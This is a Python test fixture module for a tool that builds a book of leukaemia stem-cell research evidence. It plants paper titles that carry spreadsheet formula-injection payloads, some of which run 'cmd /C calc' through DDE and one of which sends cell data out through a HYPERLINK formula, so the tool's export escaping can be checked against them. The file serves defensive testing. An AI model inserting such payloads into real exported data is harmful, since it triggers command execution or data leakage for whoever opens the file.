"""A small book made of our own model, to plant things in that no honest paper has."""

from lscbook import vocabulary
from lscbook.corpus import Corpus
from lscbook.evidence import model
from lscbook.evidence.store import Evidence
from lscbook.pubmed.record import Author, Record
from lscbook.synthesis.book import Book, Citation

WORDS = ("+8", "-7", "MARCH1", "SEPT9", "10E5")
FORMULAS = (
    '=HYPERLINK("https://example.org/?"&A1,"open")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    " =1+1",
    "＝1+1",
    "Stem cells;=1+1",
    'Stem cells";=1+1;"',
    "Stem cells, @SUM(A1:A9)",
    "Stem cells\t=1+1",
    "−HYPERLINK(A1)",
)
HONEST = (
    "-7/del(7q) in MDS",
    "+der(1;7)(q10;p10) and trisomy 8",
    "5q- and +8, -7 in one clone",
    "CD34+CD38- cells at 10⁶; p<0.05",
    "-7",
    "+8",
    "A = B in every case",
    "write to someone@example.org",
)


# What a counted finding of each theme must say.
OF_THEME = {
    "evolution": {"lesions": ["DNMT3A"], "order": "founding"},
    "identity": {"subjects": ["CD123"], "contrast": "LSC against normal HSC", "relative": "higher"},
    "resistance": {"mechanism": "preexisting resistant clone"},
    "surveillance": {"assay": "other", "end_point": "relapse",
                     "contrast": {"kind": "test", "of": "positive", "against": "negative"}},
    "target": {"target": "CD123", "stage": "PDX", "aspect": "efficacy", "end_point": "leukaemia burden"},
}  # fmt: skip


def record(pmid="1", title="Stem cells", **facts):
    return Record(pmid=pmid, title=title, journal="Test J", date="2014-03", authors=(Author("Doe", "J"),), **facts)


def finding(number=1, theme="evolution", **own):
    given = {
        "id": str(number), "theme": theme, "claim": "A lesion came first.", "diseases": ["AML"],
        "study": "cohort", "support": {"sentences": ["2"]},
    }  # fmt: skip
    if own.get("role") is None:
        given |= {"direction": "supports", "directness": "direct", "level": "B", **OF_THEME[theme]}
    return model.model_of(theme, own.get("role")).model_validate(given | own)


def entry(pmid="1", findings=None, added="2026-01-02", **own):
    return model.Entry.model_validate(
        {"pmid": pmid, "read": "abstract", "added": added, "findings": findings or [finding()], **own}
    )


def evidence(*pairs):
    """Evidence of (entry, record) pairs."""
    return Evidence({e.key: e for e, _ in pairs}, {e.key: r for e, r in pairs})


def book(*pairs, base="", **own):
    known = evidence(*pairs)
    given = {
        "decisions": (), "readings": (), "harvests": {}, "notices": {}, "trials": {}, "base": base,
        "citation": Citation("Test Book", "A book for tests.", ("The testers",), "0.0.1", ("stem cell",)), **own,
    }  # fmt: skip
    corpus = Corpus({r.key: r for _, r in pairs}, {"as_of": "2026-01-03", "statement": "", "complete": False})
    return Book(corpus, known, vocabulary.load(), **given)


def hostile(**own):
    """A paper for each hostile title, with the words that spreadsheets spoil, and one honest paper for each honest title."""
    pairs = []
    for number, title in enumerate((*FORMULAS, *HONEST), start=1):
        found = finding(lesions=WORDS[:2], genes=WORDS[2:], cohort=list(WORDS), n="8", n_unit="patients")
        pairs.append((entry(str(number), [found]), record(str(number), title)))
    return book(*pairs, **own)
